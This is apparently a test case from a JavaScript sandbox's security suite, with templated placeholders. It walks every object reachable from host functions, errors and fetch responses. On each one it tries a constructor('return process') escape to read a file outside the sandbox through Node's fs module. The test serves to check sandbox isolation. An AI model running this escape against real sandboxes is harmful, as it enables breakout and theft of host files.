// attack {"class":"host realm","attempt":"every object that can be reached from the host's functions, errors, promises and answers","effect":"canary","ends":["ok"],"closed":{"cpuMs":5000,"allowedHosts":["127.0.0.1:{{site.port}}"],"extraCapabilities":["tool:echo"]},"bare":true}
const starts = [this, globalThis, readFile, writeFile, listFiles, deleteFile, fetch, callTool, print, console, env, process, import("x").catch((error) => error)];
for (const act of [() => readFile("{{outside.file}}"), () => callTool("nothing"), () => callTool("echo", { a: [1] }), () => null.x, () => new Array(-1)]) {
  try { starts.push(act()); } catch (error) { starts.push(error); }
}
await fetch("{{site.url}}").then((response) => starts.push(response, response.headers, response.text, response.json()), (error) => starts.push(error));
starts.push(await starts[12]);
const reached = new Set();
const walk = (value, depth) => {
  if (depth > 6 || (typeof value !== "object" && typeof value !== "function") || value === null || reached.has(value)) return;
  reached.add(value);
  for (const key of Reflect.ownKeys(value)) {
    try { walk(value[key], depth + 1); } catch {}
    try { const { get, set } = Object.getOwnPropertyDescriptor(value, key); walk(get, depth + 1); walk(set, depth + 1); } catch {}
  }
  walk(Object.getPrototypeOf(value), depth + 1);
};
for (const start of starts) walk(start, 0);
if (reached.size < 100) throw new Error("the walk went nowhere");
for (const value of reached) {
  try { console.log(value.constructor("return process")().getBuiltinModule("fs").readFileSync("{{outside.file}}", "utf8")); } catch {}
}
